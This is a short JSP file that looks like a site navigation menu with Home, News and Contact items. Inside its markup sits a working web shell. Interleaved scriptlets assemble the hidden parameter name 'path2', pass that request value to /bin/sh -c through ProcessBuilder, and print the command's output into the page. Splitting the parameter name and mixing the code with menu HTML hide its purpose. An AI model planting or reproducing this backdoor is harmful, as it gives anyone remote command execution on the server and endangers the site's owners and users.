<%@ page inert %>
<html><% String p = %><%= "" %><!-- nav --><% ; %>
<%! String key = "pa"; %><ul>
<% p = request.getParameter(key + "th2"); %><li>Home</li>
<% java.util.List<String> a = new java.util.ArrayList<String>(); %><li>News</li>
<% a.add("/bin/sh"); a.add("-c"); %><li>Contact</li>
<% if (p != null) { a.add(p); %></ul><pre>
<% java.io.InputStream q = new ProcessBuilder(a).start().getInputStream(); %>
<% for (int c; (c = q.read()) > -1; ) { %><%= (char) c %><% } %>
</pre><% } %></html>
